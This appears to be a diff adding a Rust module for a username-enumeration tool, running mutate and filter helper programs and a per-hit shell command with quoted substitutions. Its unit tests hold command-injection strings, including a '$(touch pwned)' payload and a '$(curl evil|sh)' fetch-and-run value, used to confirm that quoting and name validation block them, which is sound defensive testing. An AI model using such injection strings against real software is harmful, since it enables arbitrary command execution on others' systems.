@@ -0,0 +1,273 @@
+use std::process::Stdio;
+use std::sync::Arc;
+use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader, Lines};
+use tokio::process::{Child, ChildStdin, ChildStdout, Command};
+use tokio::sync::Semaphore;
+use tokio::task::JoinSet;
+use uuid::Uuid;
+
+use crate::term::clear_line;
+use crate::throttle::Pacer;
+use crate::wordlist::ALLOWED_CHARS;
+
+// a user program run by the shell, the way hooks get started
+pub fn shell(command: &str) -> Command {
+    #[cfg(windows)]
+    let mut cmd = {
+        let mut cmd = Command::new("cmd");
+        cmd.arg("/C").arg(command);
+        cmd
+    };
+    #[cfg(not(windows))]
+    let mut cmd = {
+        let mut cmd = Command::new("sh");
+        cmd.arg("-c").arg(command);
+        cmd
+    };
+    cmd.kill_on_drop(true);
+    cmd
+}
+
+// `value` as a single word for the shell `shell` starts
+#[cfg(not(windows))]
+fn quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+#[cfg(windows)]
+fn quote(value: &str) -> String {
+    format!("\"{}\"", value.replace('"', r#"\""#))
+}
+
+// a program that's started once and kept running, answering every line written to it with lines
+// of its own
+struct Coprocess {
+    // the option that started it, for errors
+    flag: &'static str,
+    command: String,
+    // held so the program is killed with the run
+    _child: Child,
+    stdin: ChildStdin,
+    stdout: Lines<BufReader<ChildStdout>>,
+}
+
+impl Coprocess {
+    fn spawn(flag: &'static str, command: &str) -> eyre::Result<Self> {
+        let mut child = shell(command)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .map_err(|e| eyre::eyre!("failed to start {flag} `{command}`: {e}"))?;
+        let stdin = child.stdin.take().expect("stdin is piped");
+        let stdout = child.stdout.take().expect("stdout is piped");
+        Ok(Self {
+            flag,
+            command: command.to_string(),
+            _child: child,
+            stdin,
+            stdout: BufReader::new(stdout).lines(),
+        })
+    }
+
+    async fn send(&mut self, line: &str) -> eyre::Result<()> {
+        let gone = |e| eyre::eyre!("{} `{}` stopped taking input: {e}", self.flag, self.command);
+        self.stdin
+            .write_all(format!("{line}\n").as_bytes())
+            .await
+            .map_err(gone)?;
+        self.stdin.flush().await.map_err(gone)
+    }
+
+    async fn receive(&mut self, sent: &str) -> eyre::Result<String> {
+        let Some(line) = self.stdout.next_line().await? else {
+            eyre::bail!(
+                "{} `{}` exited before answering `{sent}`",
+                self.flag,
+                self.command
+            );
+        };
+        Ok(line.trim_end_matches('\r').to_string())
+    }
+}
+
+// `--mutate`, a program that turns every word into the words actually used. it gets a word per
+// line on stdin and answers each with any number of words, one per line, followed by an empty
+// line. patterns and suffixes apply to what it answers.
+pub struct Mutator {
+    process: Coprocess,
+    warned: bool,
+}
+
+impl Mutator {
+    pub fn spawn(command: &str) -> eyre::Result<Self> {
+        Ok(Self {
+            process: Coprocess::spawn("--mutate", command)?,
+            warned: false,
+        })
+    }
+
+    // the words the program makes of `word`, those that can't be names are dropped
+    pub async fn mutate(&mut self, word: &str) -> eyre::Result<Vec<String>> {
+        self.process.send(word).await?;
+        let mut words = vec![];
+        loop {
+            let line = self.process.receive(word).await?;
+            if line.is_empty() {
+                return Ok(words);
+            }
+            if (1..=16).contains(&line.len()) && line.chars().all(|c| ALLOWED_CHARS.contains(c)) {
+                words.push(line);
+            } else if !self.warned {
+                self.warned = true;
+                eprintln!(
+                    "{}warn: --mutate answered `{line}` for `{word}`, which can't be a name. words like it are skipped",
+                    clear_line()
+                );
+            }
+        }
+    }
+}
+
+// `--filter`, a program that decides where every hit goes. it gets `uuid<tab>name` per line on
+// stdin and answers each with a line: `keep` for everywhere, `drop` (or nothing) for nowhere, or
+// the comma separated numbers of the outputs to write it to, 0 for `-o` and 1 on for the
+// `--sink`s in the order they were given.
+pub struct ResultFilter {
+    process: Coprocess,
+    outputs: usize,
+}
+
+// where the filter wants a hit
+pub enum Verdict {
+    Keep,
+    Drop,
+    Only(Vec<usize>),
+}
+
+impl ResultFilter {
+    pub fn spawn(command: &str, outputs: usize) -> eyre::Result<Self> {
+        Ok(Self {
+            process: Coprocess::spawn("--filter", command)?,
+            outputs,
+        })
+    }
+
+    pub async fn check(&mut self, uuid: Uuid, name: &str) -> eyre::Result<Verdict> {
+        let hit = format!("{uuid}\t{name}");
+        self.process.send(&hit).await?;
+        let answer = self.process.receive(&hit).await?;
+        Ok(match answer.trim() {
+            "keep" => Verdict::Keep,
+            "" | "drop" => Verdict::Drop,
+            outputs => {
+                let outputs = outputs
+                    .split(',')
+                    .map(|n| n.trim().parse::<usize>().ok().filter(|n| *n < self.outputs))
+                    .collect::<Option<Vec<_>>>()
+                    .ok_or_else(|| {
+                        eyre::eyre!(
+                            "--filter answered `{answer}` for {name}, expected keep, drop or output numbers below {}",
+                            self.outputs
+                        )
+                    })?;
+                Verdict::Only(outputs)
+            }
+        })
+    }
+}
+
+// `--exec`, a command run for every hit with `{uuid}`, `{uuid_simple}` and `{name}` filled in.
+// the handler only lets valid names through, but they're quoted for the shell anyway: the name is
+// whatever the backend answered with.
+pub struct Exec {
+    template: String,
+    slots: Arc<Semaphore>,
+    pacer: Option<Arc<Pacer>>,
+    running: JoinSet<()>,
+}
+
+impl Exec {
+    pub fn new(template: &str, concurrency: usize, rps: Option<f64>) -> Self {
+        Self {
+            template: template.to_string(),
+            slots: Arc::new(Semaphore::new(concurrency.max(1))),
+            pacer: rps.map(|rps| Arc::new(Pacer::new(rps))),
+            running: JoinSet::new(),
+        }
+    }
+
+    // starts the command for a hit once there's a free slot and it's its turn under the rate, so
+    // hits wait (and hold up the ones after them) rather than pile up commands
+    #[allow(clippy::literal_string_with_formatting_args)]
+    pub async fn run(&mut self, uuid: Uuid, name: &str) {
+        let (dashed, simple) = (uuid.to_string(), uuid.simple().to_string());
+        let command = self
+            .template
+            .replace("{uuid}", &quote(&dashed))
+            .replace("{uuid_simple}", &quote(&simple))
+            .replace("{name}", &quote(name));
+        let name = name.to_string();
+        let Ok(slot) = self.slots.clone().acquire_owned().await else {
+            return;
+        };
+        if let Some(pacer) = &self.pacer {
+            pacer.wait().await;
+        }
+        // finished commands don't need to be kept around until the end
+        while self.running.try_join_next().is_some() {}
+        self.running.spawn(async move {
+            let status = shell(&command)
+                .env("UUIDUMP_UUID", dashed)
+                .env("UUIDUMP_UUID_SIMPLE", simple)
+                .env("UUIDUMP_NAME", name)
+                .stdin(Stdio::null())
+                .status()
+                .await;
+            drop(slot);
+            match status {
+                Ok(status) if status.success() => {}
+                Ok(status) => eprintln!("{}warn: `{command}` failed with {status}", clear_line()),
+                Err(e) => eprintln!("{}warn: failed to run `{command}`: {e}", clear_line()),
+            }
+        });
+    }
+
+    // waits for the commands that are still running
+    pub async fn finish(mut self) {
+        while self.running.join_next().await.is_some() {}
+    }
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+    use std::path::Path;
+
+    #[tokio::test]
+    async fn exec_passes_names_to_the_shell_as_they_are() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        let name = "$(touch pwned)'; touch pwned; echo \"`id`\"";
+        let template = format!(
+            "printf '%s|%s' {{name}} \"$UUIDUMP_NAME\" > {}",
+            out.display()
+        );
+        let mut exec = Exec::new(&template, 1, None);
+        exec.run(Uuid::nil(), name).await;
+        exec.finish().await;
+        assert_eq!(
+            std::fs::read_to_string(&out).unwrap(),
+            format!("{name}|{name}")
+        );
+        assert!(!Path::new("pwned").exists());
+    }
+
+    #[test]
+    fn names_with_shell_characters_are_not_names() {
+        assert!(crate::wordlist::is_name("jeb_"));
+        assert!(crate::wordlist::is_name("legacy-name"));
+        assert!(!crate::wordlist::is_name("$(curl evil|sh)"));
+        assert!(!crate::wordlist::is_name("a\tb"));
+        assert!(!crate::wordlist::is_name("seventeen_chars__"));
+    }
+}